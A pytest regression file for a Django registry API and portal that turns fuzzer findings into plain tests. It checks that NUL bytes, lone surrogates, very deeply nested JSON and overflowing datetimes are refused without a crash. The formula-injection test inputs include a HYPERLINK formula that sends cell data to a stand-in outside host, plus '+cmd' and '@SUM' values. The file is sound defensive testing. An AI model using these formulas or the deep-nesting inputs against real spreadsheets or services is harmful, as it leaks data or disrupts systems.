"""What schemathesis and hypothesis found in the API and the portal, each kept as a plain test."""

from __future__ import annotations

import json

import pytest
from django.core.management import call_command

from tests.auth import login
from tests.workflow import approved, draft, to_decision
from vpnregistry.applications.models import Application, Resource


def _schema(tmp_path) -> dict:
    out = tmp_path / "schema.json"
    call_command("spectacular", "--format", "openapi-json", "--file", str(out))
    return json.loads(out.read_text())


# --- 500s ------------------------------------------------------------------------------------------


def test_a_cursor_of_digits_int_refuses_is_ignored_not_a_crash(world):
    # "²".isdigit() is True, int("²") raises ValueError.
    response = world.client(world.applicant).get("/api/v1/complaints/", {"cursor": "²"})
    assert response.status_code == 200


def test_a_csv_column_of_digits_int_refuses_is_a_400(world):
    response = world.client(world.operator).post(
        "/api/v1/exemptions/check?column=%C2%B2", data="14.1.105.1\n", content_type="text/plain"
    )
    assert response.status_code == 400
    assert "column" in response.json()


@pytest.mark.parametrize("at", ["0001-01-01T00:00", "9999-12-31T23:59-05:00"])
def test_a_time_that_overflows_in_utc_is_a_400(world, at):
    response = world.client(world.operator).get(
        "/api/v1/exemptions/check", {"address": "14.1.105.1", "at": at}
    )
    assert response.status_code == 400
    assert "outside the times" in response.json()["at"][0]


def test_an_event_outside_the_times_held_is_refused(world):
    body = {
        "title": "t",
        "legal_reference": "r",
        "national": True,
        "services": ["mobile-data"],
        "starts_at": "0001-01-01T00:00",
        "ends_at": "2026-01-01T00:00",
    }
    response = world.client(world.officer).post("/api/v1/events/", body, format="json")
    assert response.status_code == 400
    assert set(response.json()) == {"starts_at"}


@pytest.mark.parametrize("subscriber_id", ["\ud800", "a\x00b", "tab\tinside"])
def test_a_subscriber_id_no_database_stores_is_refused_and_nothing_written(world, subscriber_id):
    # A lone surrogate crashed both databases; NUL was stored by SQLite and crashed PostgreSQL.
    body = json.dumps({"resources": [{"value": "14.1.104.0/24", "subscriber_id": subscriber_id}]})
    response = world.client(world.applicant).post(
        "/api/v1/applications/", data=body, content_type="application/json"
    )
    assert response.status_code == 400
    assert set(response.json()["resources"][0]) == {"subscriber_id"}
    assert not Application.objects.exists() and not Resource.objects.exists()


def test_a_district_code_with_a_surrogate_is_named_not_a_crash(world):
    body = json.dumps(
        {"resources": [{"value": "14.1.104.0/24", "subscriber_id": "S", "district": "x\ud800"}]}
    )
    response = world.client(world.applicant).post(
        "/api/v1/applications/", data=body, content_type="application/json"
    )
    assert response.status_code == 400
    assert "district" in response.json()["resources"][0]


@pytest.mark.parametrize(("who", "url"), [("applicant", "/applications/"), ("auditor", "/audit/")])
def test_portal_keyset_pages_ignore_a_before_of_odd_digits(client, world, who, url):
    login(client, getattr(world, who))
    assert client.get(url, {"before": "²"}).status_code == 200


# --- JSON nested deeper than anyone writes ---------------------------------------------------------


def _nested(depth: int, inner: str = "1") -> str:
    return "[" * depth + inner + "]" * depth


def _deep_status(depth: int) -> str:
    return '{"tracking_number": "VR-2026-000001", "secret": ' + _nested(depth) + "}"


@pytest.mark.parametrize("depth", [65, 1_000, 100_000])
def test_json_nested_too_deep_is_a_400_on_every_endpoint_that_reads_json(world, depth):
    # 1,000 levels was a RecursionError, a 500 (Django's debug page with debug on), anonymous or not.
    application = to_decision(world, "14.1.104.0/24")
    calls = [
        (world.client(None), "/api/v1/status/", _deep_status(depth)),
        (world.client(world.applicant), "/api/v1/applications/", '{"resources": ' + _nested(depth) + "}"),
        (
            world.client(world.officer),
            f"/api/v1/applications/{application.pk}/decide/",
            '{"outcome": "approve", "reason": ' + _nested(depth) + "}",
        ),
    ]
    before = Application.objects.count()
    for client, url, body in calls:
        response = client.post(url, data=body, content_type="application/json")
        assert response.status_code == 400, (url, response.status_code, response.content[:300])
        assert "nested deeper than 64" in response.json()["detail"], url
    assert Application.objects.count() == before
    application.refresh_from_db()
    assert application.state == "awaiting_decision"


def test_json_nested_64_deep_is_parsed_and_brackets_inside_strings_do_not_count(world):
    client = world.client(None)
    response = client.post("/api/v1/status/", data=_deep_status(63), content_type="application/json")
    assert response.status_code == 400 and "secret" in response.json()  # judged by the serializer
    # An escaped quote inside a string does not end it: the brackets after it are still text.
    body = {"tracking_number": "VR-2026-000001", "secret": "s", "note": "[{" * 500 + '\\"[[' * 40}
    text = json.dumps(body)
    response = client.post("/api/v1/status/", data=text, content_type="application/json")
    assert response.status_code == 404  # read, looked up, not found


def test_a_json_parse_error_still_says_where(world):
    response = world.client(None).post("/api/v1/status/", data='{"a": [1, }', content_type="application/json")
    assert response.status_code == 400
    assert response.json()["detail"].startswith("JSON parse error")


# --- spreadsheet formulas -------------------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"bill")', "@SUM(1+1)", "+cmd", "-x", "+", "-", "+ 92"]
NOT_FORMULAS = ["+923001234567", "-12", "SUB=1", "A+B", "1@2"]


@pytest.mark.parametrize("subscriber_id", FORMULAS)
def test_a_subscriber_id_a_spreadsheet_would_run_is_refused_naming_the_field(world, subscriber_id):
    body = json.dumps({"resources": [{"value": "14.1.104.0/24", "subscriber_id": subscriber_id}]})
    response = world.client(world.applicant).post(
        "/api/v1/applications/", data=body, content_type="application/json"
    )
    assert response.status_code == 400
    errors = response.json()["resources"][0]
    assert set(errors) == {"subscriber_id"}
    assert "formula" in errors["subscriber_id"][0]
    assert not Application.objects.exists()


def test_a_formula_in_an_uploaded_csv_names_the_line_and_the_field(world):
    text = "value,subscriber_id\n14.1.104.0/24,SUB-1\n14.1.105.0/24,=1+1\n"
    response = world.client(world.applicant).post(
        "/api/v1/applications/csv/", data=text, content_type="text/csv"
    )
    assert response.status_code == 400
    assert response.json()["csv"][0].startswith("line 3, column subscriber_id: ")


@pytest.mark.parametrize("subscriber_id", NOT_FORMULAS)
def test_subscriber_ids_that_merely_hold_a_sign_are_taken(world, subscriber_id):
    body = json.dumps({"resources": [{"value": "14.1.104.0/24", "subscriber_id": subscriber_id}]})
    response = world.client(world.applicant).post(
        "/api/v1/applications/", data=body, content_type="application/json"
    )
    assert response.status_code == 201, response.content


# --- answers that did not match the schema ---------------------------------------------------------


def test_unknown_api_urls_answer_in_json_and_portal_ones_in_html(client, world):
    response = client.get("/api/v1/allowlist/latest.-/")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"detail": "Not found."}
    page = client.get("/no-such-page/")
    assert page.status_code == 404 and page["Content-Type"].startswith("text/html")


def test_an_unknown_complaint_state_is_refused(world):
    response = world.client(world.applicant).get("/api/v1/complaints/", {"state": "lost"})
    assert response.status_code == 400
    assert "state" in response.json()
    assert world.client(world.applicant).get("/api/v1/complaints/", {"state": ""}).status_code == 200


def test_fields_that_can_be_null_say_so(world, tmp_path):
    application = draft(world, "14.1.104.0/24")
    data = world.client(world.applicant).get(f"/api/v1/applications/{application.pk}/").json()
    assert data["agency"] is None and data["resources"][0]["district"] is None
    schemas = _schema(tmp_path)["components"]["schemas"]
    assert schemas["ApplicationDetail"]["properties"]["agency"]["nullable"] is True
    assert schemas["Resource"]["properties"]["district"]["nullable"] is True
    assert schemas["Registration"]["properties"]["district"]["nullable"] is True


def test_an_operator_that_never_downloaded_has_zero_downloads(world):
    approved(world, "14.1.105.0/24")
    rows = world.client(world.officer).get("/api/v1/allowlist/operators/").json()["results"]
    assert {row["code"]: row["downloads"] for row in rows} == {"indus": 0, "margalla": 0}


def test_signatures_and_evidence_declare_the_media_types_they_are_served_as(tmp_path):
    paths = _schema(tmp_path)["paths"]

    def media(path):
        return set(paths[path]["get"]["responses"]["200"]["content"])

    assert media("/api/v1/allowlist/index.json") == {"application/json"}
    assert media("/api/v1/allowlist/index.json.minisig") == {"text/plain"}
    assert media("/api/v1/allowlist/{which}.{name}") == {"application/json", "text/csv", "text/plain"}
    assert media("/api/v1/allowlist/{which}.{name}.minisig") == {"text/plain"}
    assert media("/api/v1/complaints/{id}/evidence/") == {
        "application/pdf",
        "image/png",
        "image/jpeg",
        "text/plain",
    }
    # The complaints list answers with a page object, not a list of pages.
    page = paths["/api/v1/complaints/"]["get"]["responses"]["200"]["content"]["application/json"]["schema"]
    assert page == {"$ref": "#/components/schemas/ComplaintPage"}


# --- NUL, which PostgreSQL refuses in any text ----------------------------------------------------


@pytest.mark.parametrize("url", ["/applications/?state=%00", "/complaints/?state=%00"])
def test_a_portal_filter_holding_nul_is_a_400(client, world, url):
    # On PostgreSQL these were 500s: the filter reached the query as it came.
    login(client, world.applicant)
    response = client.get(url)
    assert response.status_code == 400
    assert b"NUL" in response.content


def test_an_api_query_holding_nul_is_a_json_400(world):
    response = world.client(world.applicant).get("/api/v1/me/", {"x": "\x00"})
    assert response.status_code == 400
    assert "NUL" in response.json()["detail"]


def test_a_portal_form_field_holding_nul_is_a_400_and_nothing_written(client, world):
    from vpnregistry.restrictions.models import RestrictionEvent

    login(client, world.officer)
    form = {
        "title": "a\x00b",
        "legal_reference": "r",
        "services": ["mobile-data"],
        "national": "on",
        "starts_at": "2026-12-01T09:00",
        "ends_at": "2026-12-01T10:00",
    }
    assert client.post("/events/new/", form).status_code == 400
    assert not RestrictionEvent.objects.exists()
    form["title"] = "a b"
    assert client.post("/events/new/", form).status_code == 302  # the same form without it is taken


def test_a_step_on_a_list_route_answers_a_list_not_a_page(tmp_path):
    # Attesting many resources at once (POST /resources/attest/) was declared as a cursor page.
    operation = _schema(tmp_path)["paths"]["/api/v1/resources/attest/"]["post"]
    body = operation["responses"]["200"]["content"]["application/json"]["schema"]
    assert body == {"type": "array", "items": {"$ref": "#/components/schemas/Resource"}}
    assert not [p for p in operation.get("parameters", []) if p["name"] == "cursor"]


def test_an_error_that_quotes_a_lone_surrogate_is_still_answered(world):
    # Found in CI: a mobile number "\ud800" was quoted in its error message, which UTF-8 cannot
    # carry; the answer is written with ASCII escapes instead, and names the field.
    client = world.client(world.freelancer_applicant)
    body = '{"resources": [{"value": "\\ud800", "subscriber_id": "S", "operator": "x"}]}'
    response = client.post("/api/v1/applications/", body, content_type="application/json")
    assert response.status_code == 400
    assert "value" in json.loads(response.content)["resources"][0]
    assert not Application.objects.exists()


# --- input schemathesis's negative checks found taken (VPNREGISTRY_FUZZ_STRICT=1) -------------------


@pytest.mark.parametrize("unread", ["-58800", "yes please", "2"])
def test_a_notification_filter_that_is_not_a_flag_is_refused(world, unread):
    response = world.client(world.applicant).get("/api/v1/notifications/", {"unread": unread})
    assert response.status_code == 400
    assert set(response.json()) == {"unread"}


@pytest.mark.parametrize("unread", ["1", "true", "True", "0", "false", ""])
def test_a_notification_filter_that_is_a_flag_is_taken(world, unread):
    assert world.client(world.applicant).get("/api/v1/notifications/", {"unread": unread}).status_code == 200


@pytest.mark.parametrize(
    ("url", "body"),
    [
        ("/api/v1/signup/resend/", {"email": 0}),
        (
            "/api/v1/signup/",
            {"name": "N", "category": "company", "email": 0, "username": "u", "password": "p"},
        ),
        ("/api/v1/signup/verify/", {"token": 12345}),
    ],
)
def test_a_number_where_text_goes_is_refused_naming_the_field(world, url, body):
    response = world.client(None).post(url, data=json.dumps(body), content_type="application/json")
    assert response.status_code == 400, response.content
    named = [key for key, value in body.items() if not isinstance(value, str)]
    assert set(response.json()) == set(named)


def test_a_member_invitation_to_a_number_is_refused_naming_the_field(world):
    from vpnregistry.accounts.models import User

    User.objects.filter(pk=world.applicant.pk).update(is_org_admin=True)
    response = world.client(world.applicant).post(
        "/api/v1/organisation/invitations/", data=json.dumps({"email": 0}), content_type="application/json"
    )
    assert response.status_code == 400
    assert set(response.json()) == {"email"}


@pytest.mark.parametrize(
    ("query", "body", "media_type"),
    [
        ("", "true", "text/csv"),  # schemathesis's boolean true, sent as a text/csv body
        ("", "nonsense\n# a comment\n\n", "text/plain"),
        ("?column=2", "14.1.105.1\n14.1.105.2\n", "text/csv"),  # the wrong column: no address in it
    ],
)
def test_a_body_to_check_that_holds_no_address_is_refused(world, query, body, media_type):
    response = world.client(world.operator).post(
        f"/api/v1/exemptions/check{query}", data=body, content_type=media_type
    )
    assert response.status_code == 400
    assert set(response.json()) == {"body"}


def test_a_body_with_one_address_among_errors_is_answered_line_by_line(world):
    client = world.client(world.operator)
    response = client.post("/api/v1/exemptions/check", data="true\n14.1.105.1\n", content_type="text/csv")
    assert response.status_code == 200
    rows = b"".join(response.streaming_content).decode().splitlines()
    assert rows[1].startswith("true,error") and rows[2].startswith("14.1.105.1,")
    blank = client.post("/api/v1/exemptions/check", data="\n\n", content_type="text/plain")
    assert blank.status_code == 200  # nothing to check is answered with the header alone
